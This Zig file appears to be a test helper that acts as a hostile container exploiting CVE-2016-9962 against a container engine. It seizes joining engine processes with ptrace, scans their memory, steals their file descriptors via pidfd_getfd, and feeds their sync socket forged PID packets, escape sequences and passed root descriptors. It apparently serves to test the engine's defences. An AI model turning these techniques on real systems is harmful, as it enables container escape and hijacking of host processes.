//! What a container with CAP_SYS_PTRACE can get hold of when a process of the engine's joins it (CVE-2016-9962): its
//! descriptors, its memory, its rights; and what the engine makes of words that are not those of that process.
const std = @import("std");
const linux = std.os.linux;
const files = @import("files.zig");
const input = @import("input.zig");
const output = @import("output.zig");
const signals = @import("signals.zig");
const Args = input.Args;

const wall = 0x4000_0000; // __WALL
const trace_exec = 0x10; // PTRACE_O_TRACEEXEC
const event_exec = 4;
const path_max = 64;

/// The next process of our pid namespace that runs the engine's helper, stopped at its birth or soon after: its number is
/// the next one. Those that came and went while we did not run are left out.
fn catchNext(next: *i32) i32 {
    var tries: usize = 0;
    while (true) : (tries += 1) {
        if (tries % 1024 == 0) next.* = @max(next.*, lastPid() + 1);
        const pid = next.*;
        if (input.failed(linux.kill(pid, .STOP))) continue;
        next.* += 1;
        if (isHelper(pid)) return pid;
        _ = linux.kill(pid, .CONT);
    }
}

/// The youngest process's number: the last word of /proc/loadavg.
fn lastPid() i32 {
    var buffer: [128]u8 = undefined;
    const length = input.read("/proc/loadavg", &buffer);
    if (input.failed(length)) return 0;
    const line = std.mem.trimEnd(u8, buffer[0..length], "\n");
    const blank = std.mem.lastIndexOfScalar(u8, line, ' ') orelse return 0;
    return @intCast(input.parse(line[blank + 1 ..], 0));
}

fn isHelper(pid: i32) bool {
    var path: [path_max]u8 = undefined;
    var proc: [path_max]u8 = undefined;
    var name: [32]u8 = undefined;
    const length = input.read(signals.join(&path, &.{ directory(&proc, pid), "/comm" }), &name);
    return !input.failed(length) and std.mem.eql(u8, std.mem.trimEnd(u8, name[0..length], "\n"), "rt-monitor");
}

/// watch-joins COUNT [NEEDLE…]: each of the next COUNT processes that join is stopped at its birth and at every system call
/// until it executes a program. Of each: "caught PID", "status LINE", "own root", "own cwd", "environment BYTES", "needle
/// TEXT" for each one that is in its memory, "fd N KIND own" for what it holds at any of the stops and is on a mount of
/// ours, "fd N KIND FILE-SYSTEM" for the rest, "executed PID".
pub fn watch(args: Args) u8 {
    const count = input.parse(input.arg(args, 0), 1);
    var next: i32 = linux.getpid() + 1;
    output.text("ready\n");
    output.flush();
    var watched: usize = 0;
    while (watched < count) : (watched += 1) {
        var pid = catchNext(&next);
        // One that has ended meanwhile cannot be traced.
        while (input.failed(linux.ptrace(linux.PTRACE.SEIZE, pid, 0, trace_exec, 0))) pid = catchNext(&next);
        output.pair("caught", @intCast(pid));
        var seen: Seen = .{};
        var first = true;
        var state: u32 = 0;
        while (!input.failed(linux.waitpid(pid, &state, wall))) {
            if (!linux.W.IFSTOPPED(state)) break;
            if (first) {
                lookAt(pid, args[@min(1, args.len)..]);
                _ = linux.kill(pid, .CONT);
            }
            first = false;
            if (state >> 16 == event_exec) {
                output.pair("executed", @intCast(pid));
                _ = linux.ptrace(linux.PTRACE.DETACH, pid, 0, 0, 0);
                break;
            }
            listDescriptors(pid, &seen);
            _ = linux.ptrace(linux.PTRACE.SYSCALL, pid, 0, 0, 0);
        }
        output.flush();
    }
    output.text("done\n");
    return 0;
}

fn lookAt(pid: i32, needles: Args) void {
    var buffer: [path_max]u8 = undefined;
    const proc = directory(&buffer, pid);
    for ([_][]const u8{ "root", "cwd" }) |name| {
        var theirs: [path_max]u8 = undefined;
        var mine: linux.Statx = undefined;
        var other: linux.Statx = undefined;
        _ = files.status(linux.AT.FDCWD, "/", 0, &mine);
        _ = files.status(linux.AT.FDCWD, signals.join(&theirs, &.{ proc, "/", name }), 0, &other);
        output.line(&.{ if (mine.ino == other.ino and mine.dev_minor == other.dev_minor) "own " else "foreign ", name });
    }
    var name: [path_max]u8 = undefined;
    var environment: [4096]u8 = undefined;
    const length = input.read(signals.join(&name, &.{ proc, "/environ" }), &environment);
    output.pair("environment", if (input.failed(length)) 0 else length);
    const status = input.contents(signals.join(&name, &.{ proc, "/status" })) orelse return;
    var lines = input.lines(status);
    while (lines.next()) |line| {
        for ([_][]const u8{ "Uid:", "CapEff:", "CapPrm:", "CapBnd:", "Seccomp:" }) |wanted| {
            if (std.mem.startsWith(u8, line, wanted)) output.line(&.{ "status ", line });
        }
    }
    for (needles) |needle| if (remembers(proc, std.mem.span(needle))) output.line(&.{ "needle ", std.mem.span(needle) });
}

fn directory(buffer: []u8, pid: i32) []const u8 {
    var digits: [20]u8 = undefined;
    return std.mem.span(signals.join(buffer, &.{ "/proc/", digits[0..std.fmt.printInt(&digits, pid, 10, .lower, .{})] }));
}

var memory: [1 << 20]u8 = undefined;

/// Is `needle` anywhere in what the process can read of its own memory?
fn remembers(proc: []const u8, needle: []const u8) bool {
    var name: [path_max]u8 = undefined;
    const maps = input.contents(signals.join(&name, &.{ proc, "/maps" })) orelse return false;
    const opened = input.openRead(signals.join(&name, &.{ proc, "/mem" }));
    if (input.failed(opened)) return false;
    defer _ = linux.close(@intCast(opened));
    var lines = input.lines(maps);
    while (lines.next()) |line| {
        var fields = std.mem.splitAny(u8, line, "- ");
        var at = std.fmt.parseInt(u64, fields.next() orelse "", 16) catch continue;
        const end = std.fmt.parseInt(u64, fields.next() orelse "", 16) catch continue;
        while (at < end) : (at += memory.len - needle.len) {
            const count = linux.pread(@intCast(opened), &memory, @min(memory.len, end - at), @bitCast(at));
            if (input.failed(count)) break;
            if (std.mem.indexOf(u8, memory[0..count], needle) != null) return true;
        }
    }
    return false;
}

/// What was said of a process already.
const Seen = struct {
    entries: [64]u64 = undefined,
    count: usize = 0,

    fn add(seen: *Seen, entry: u64) bool {
        for (seen.entries[0..seen.count]) |known| if (known == entry) return false;
        if (seen.count == seen.entries.len) return false;
        seen.entries[seen.count] = entry;
        seen.count += 1;
        return true;
    }
};

const descriptors_max = 64;

/// Taken one by one, as pidfd_getfd(2) gives them to a tracer.
fn listDescriptors(pid: i32, seen: *Seen) void {
    const pidfd = linux.pidfd_open(pid, 0);
    if (input.failed(pidfd)) return;
    defer _ = linux.close(@intCast(pidfd));
    for (0..descriptors_max) |number| {
        const taken = linux.syscall3(.pidfd_getfd, pidfd, number, 0);
        if (input.failed(taken)) continue;
        defer _ = linux.close(@intCast(taken));
        var meta: linux.Statx = undefined;
        _ = files.status(@intCast(taken), "", linux.AT.EMPTY_PATH, &meta);
        var system: [32]u64 = @splat(0);
        _ = linux.syscall2(.fstatfs, taken, @intFromPtr(&system));
        if (!seen.add(number << 56 | @as(u64, meta.mode & linux.S.IFMT) << 32 | (system[0] & 0xffff_ffff))) continue;
        output.text("fd ");
        output.decimal(number);
        output.text(switch (meta.mode & linux.S.IFMT) {
            linux.S.IFDIR => " directory ",
            linux.S.IFREG => " file ",
            linux.S.IFCHR => " character ",
            linux.S.IFBLK => " block ",
            linux.S.IFIFO => " pipe ",
            linux.S.IFSOCK => " socket ",
            else => " other ",
        });
        if (isOurs(taken)) output.text("own") else output.number(system[0], 16, 1);
        output.text("\n");
    }
}

/// Is the descriptor on a mount of our mount namespace?
fn isOurs(descriptor: usize) bool {
    var digits: [20]u8 = undefined;
    var name: [path_max]u8 = undefined;
    var buffer: [512]u8 = undefined;
    const number = digits[0..std.fmt.printInt(&digits, descriptor, 10, .lower, .{})];
    const length = input.read(signals.join(&name, &.{ "/proc/self/fdinfo/", number }), &buffer);
    if (input.failed(length)) return false;
    const key = "mnt_id:\t";
    const at = std.mem.indexOf(u8, buffer[0..length], key) orelse return false;
    const id = std.mem.sliceTo(buffer[at + key.len .. length], '\n');
    var lines = input.lines(input.contents("/proc/self/mountinfo") orelse return false);
    while (lines.next()) |line| if (std.mem.eql(u8, std.mem.sliceTo(line, ' '), id)) return true;
    return false;
}

/// usurp-joins PID: takes each process that joins, and says through its socket what that never would, of the host's process
/// PID among others; then lets it go, or kills it. "usurped N" after each.
pub fn usurp(args: Args) u8 {
    const victim: u32 = @truncate(input.parse(input.arg(args, 0), 1));
    var next: i32 = linux.getpid() + 1;
    output.text("ready\n");
    output.flush();
    var round: u64 = 0;
    while (true) : (round += 1) {
        const pid = catchNext(&next);
        const socket = takeSync(pid) orelse {
            _ = linux.kill(pid, .CONT);
            continue;
        };
        speak(socket, round, victim);
        // Now and then a copy of the socket is kept.
        if (round % 5 != 0) _ = linux.close(socket);
        _ = linux.kill(pid, if (round % 3 == 0) .KILL else .CONT);
        output.pair("usurped", round + 1);
        output.flush();
    }
}

fn takeSync(pid: i32) ?i32 {
    const pidfd = linux.pidfd_open(pid, 0);
    if (input.failed(pidfd)) return null;
    defer _ = linux.close(@intCast(pidfd));
    for (3..descriptors_max) |number| {
        const taken = linux.syscall3(.pidfd_getfd, pidfd, number, 0);
        if (input.failed(taken)) continue;
        var kind: u32 = 0;
        var length: u32 = 4;
        const asked = linux.getsockopt(@intCast(taken), linux.SOL.SOCKET, linux.SO.TYPE, @ptrCast(&kind), &length);
        if (!input.failed(asked) and kind == linux.SOCK.SEQPACKET) return @intCast(taken);
        _ = linux.close(@intCast(taken));
    }
    return null;
}

fn speak(socket: i32, round: u64, victim: u32) void {
    var pid_packet = [_]u8{'P'} ++ [_]u8{0} ** 4;
    std.mem.writeInt(u32, pid_packet[1..5], victim, .big);
    const root: i32 = @intCast(linux.open("/", .{ .DIRECTORY = true }, 0));
    defer _ = linux.close(root);
    switch (round % 12) {
        0 => send(socket, &pid_packet, &.{}),
        1 => for ([_][]const u8{ &pid_packet, "R", "E\x00\x00\x00\x02\x00\x00\x00\x01taken" }) |packet| send(socket, packet, &.{}),
        2 => for (0..40) |_| send(socket, "W\x1b[31mtaken\n\x1b]0;x\x07\xe2\x80\xae", &.{}),
        3 => send(socket, "P", &.{}),
        4 => send(socket, "T", &.{root}),
        5 => send(socket, "R", &.{ root, root, root, root }),
        6 => send(socket, "E\x00\x00\x00\x02\xff\xff\xff\xff\x1b[31mtaken", &.{}),
        7 => send(socket, "", &.{}),
        8 => send(socket, "W" ++ "x" ** 2000, &.{}),
        9 => for (0..1000) |_| send(socket, "Wmore", &.{}),
        10 => for ([_][]const u8{ "R", "R", "S", "G", &pid_packet }) |packet| send(socket, packet, &.{}),
        else => for (0..256) |byte| send(socket, &.{@truncate(byte *% 7 +% round)}, &.{}),
    }
}

const Control = extern struct { header: linux.cmsghdr, descriptors: [4]i32 };

fn send(socket: i32, bytes: []const u8, descriptors: []const i32) void {
    const vector = [_]std.posix.iovec_const{.{ .base = bytes.ptr, .len = bytes.len }};
    const length = @sizeOf(linux.cmsghdr) + descriptors.len * 4;
    var control: Control = .{ .header = .{ .len = length, .level = linux.SOL.SOCKET, .type = 1 }, .descriptors = undefined };
    for (descriptors, 0..) |fd, index| control.descriptors[index] = fd;
    const message: linux.msghdr_const = .{
        .name = null,
        .namelen = 0,
        .iov = &vector,
        .iovlen = 1,
        .control = &control,
        .controllen = if (descriptors.len > 0) length else 0,
        .flags = 0,
    };
    _ = linux.sendmsg(socket, &message, linux.MSG.NOSIGNAL | linux.MSG.DONTWAIT);
}
